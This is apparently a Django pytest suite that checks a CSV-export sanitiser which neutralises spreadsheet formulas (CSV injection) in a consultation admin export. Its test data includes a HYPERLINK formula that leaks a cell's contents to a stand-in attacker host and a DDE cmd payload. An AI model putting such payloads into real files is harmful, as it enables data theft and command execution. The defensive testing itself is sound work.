"""CSV exports never carry a live spreadsheet formula (decision.csv_safety, OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib import admin
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from decision.csv_safety import FORMULA_START, SafeCSV, csv_response, csv_text, neutralise
from decision.models import Feedback
from tests.review.conftest import bulk_cases

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for details")'


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\0=1", "'\0=1"),
        ("  =1+1", "'  =1+1"),
        ("\n\n@cmd", "'\n\n@cmd"),
        ("＝1+1", "'＝1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("-", "'-"),
        # Plain text and numbers stay as they are.
        ("Patient preferred ointment", "Patient preferred ointment"),
        ("a=b", "a=b"),
        ("OPTIMIZE_TCS", "OPTIMIZE_TCS"),
        ("-2", "-2"),
        ("+1.5", "+1.5"),
        ("-.5", "-.5"),
        ("2026-11-30", "2026-11-30"),
        ("", ""),
        ("'=1", "'=1"),
        (None, None),
        (-3, -3),
        (2.5, 2.5),
    ],
)
def test_a_cell_that_a_spreadsheet_would_evaluate_gets_a_leading_quote(cell, expected):
    assert neutralise(cell) == expected


def _dangerous(cell: str) -> bool:
    """What the guidance says a spreadsheet evaluates (a trigger first, or after whitespace),
    less plain ASCII numbers such as "-2" or "+1.5"."""
    starts_formula = bool(cell) and (cell[0] in FORMULA_START or cell.lstrip()[:1] in FORMULA_START)
    digits = cell.lstrip("+-").replace(".", "", 1)
    plain_number = cell[:1] in "+-" and digits.isascii() and digits.isdigit()
    return starts_formula and not plain_number


@given(st.text())
def test_exactly_the_dangerous_cells_get_a_quote_and_nothing_else_changes(text):
    assert neutralise(text) == ("'" + text if _dangerous(text) else text)


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), max_size=5))
def test_every_cell_of_a_csv_document_reads_back_neutralised(rows):
    width = max((len(row) for row in rows), default=1)
    rows = [row + [""] * (width - len(row)) for row in rows]
    header = [f"column {i}" for i in range(width)]

    text = csv_text(header, rows)

    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == header
    assert read[1:] == [[neutralise(cell) for cell in row] for row in rows]


def test_csv_response_is_a_private_attachment():
    response = csv_response("export.csv", ["comment"], [[HYPERLINK]])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="export.csv"'
    assert "no-store" in response["Cache-Control"]
    assert list(csv.reader(io.StringIO(response.content.decode()))) == [
        ["comment"],
        ["'" + HYPERLINK],
    ]


def test_every_admin_export_neutralises_formulas(rf, admin_user):
    """Every ModelAdmin with an export button (django-import-export) offers only safe CSV."""
    request = rf.get("/admin/")
    request.user = admin_user
    exporters = [
        model_admin
        for model_admin in admin.site._registry.values()
        if hasattr(model_admin, "get_export_formats")
    ]

    assert exporters, "the consultation admin exports"
    for model_admin in exporters:
        formats = model_admin.get_export_formats()
        assert formats and all(issubclass(f, SafeCSV) for f in formats), model_admin


@pytest.mark.django_db
def test_a_formula_in_a_feedback_comment_is_exported_as_text(client, clinician, django_user_model):
    [case] = bulk_cases(clinician, 1)
    Feedback.objects.update_or_create(
        consultation=case,
        defaults={
            "outcome": "followed",
            "reason": "",
            "comment": HYPERLINK,
            "recorded_by": clinician,
        },
    )
    admin_user = django_user_model.objects.create_superuser("root", password="x")
    client.force_login(admin_user)

    response = client.get(reverse("admin:decision_consultation_export"))

    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["feedback_comment"] == "'" + HYPERLINK
    assert row["reference"] == "BULK-0"
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
